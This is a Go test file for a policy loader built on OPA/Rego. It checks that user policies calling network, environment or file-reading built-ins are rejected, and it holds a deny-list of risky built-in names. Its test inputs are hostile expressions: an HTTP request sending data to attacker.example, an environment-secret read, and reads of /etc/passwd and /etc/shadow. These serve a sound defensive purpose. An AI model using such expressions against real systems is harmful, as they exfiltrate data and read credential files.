package policies

import (
	"context"
	"errors"
	"strings"
	"testing"
)

// TestUserPolicyCannotReachOut: a user policy that tries to reach the
// network, read the environment or read a file does not load; the error
// names the built-in and the line, so the author sees why.
func TestUserPolicyCannotReachOut(t *testing.T) {
	tests := []struct {
		name, builtin, expr string
	}{
		{"network: an HTTP request", "http.send", `http.send({"method": "GET", "url": "https://attacker.example/?d=x"})`},
		{"network: a DNS lookup", "net.lookup_ip_addr", `net.lookup_ip_addr("attacker.example")`},
		{"environment: the process environment", "opa.runtime", `opa.runtime().env.SYNCAUDIT_PSEUDONYM_KEY`},
		{"file read: a file URL", "http.send", `http.send({"method": "GET", "url": "file:///etc/passwd"})`},
		{"file read: a certificate file", "http.send", `http.send({"method": "GET", "url": "https://x.example", "tls_ca_cert_file": "/etc/shadow"})`},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			text := "package syncaudit.rules.sneaky\n\nfindings contains f if {\n\tx := " + tt.expr + "\n\tf := {\"rule\": \"X1\", \"severity\": \"deny\", \"message\": sprintf(\"%v\", [x])}\n}\n"
			dir := writePolicy(t, "sneaky.rego", text)
			_, err := Load(context.Background(), Options{Dirs: []string{dir}})
			var ces CompileErrors
			if !errors.As(err, &ces) {
				t.Fatalf("Load: err = %v, want CompileErrors", err)
			}
			if msg := err.Error(); !strings.Contains(msg, "sneaky.rego") || ces[0].Line != 4 || !strings.Contains(msg, tt.builtin) {
				t.Errorf("error %q (line %d): want sneaky.rego, line 4 and %s", msg, ces[0].Line, tt.builtin)
			}
		})
	}
}

// TestNoBuiltinReadsFiles: no built-in a policy may call reads a file or
// the environment. OPA adds built-ins with each version; a new one that
// names a file or the environment must be looked at before it is allowed.
func TestNoBuiltinReadsFiles(t *testing.T) {
	for _, b := range Capabilities().Builtins {
		name := strings.ToLower(b.Name)
		for _, risky := range []string{"file", "env", "http", "net.", "runtime", "exec", "os."} {
			if strings.Contains(name, risky) {
				t.Errorf("built-in %s is allowed and may reach outside syncaudit (%q)", b.Name, risky)
			}
		}
	}
}
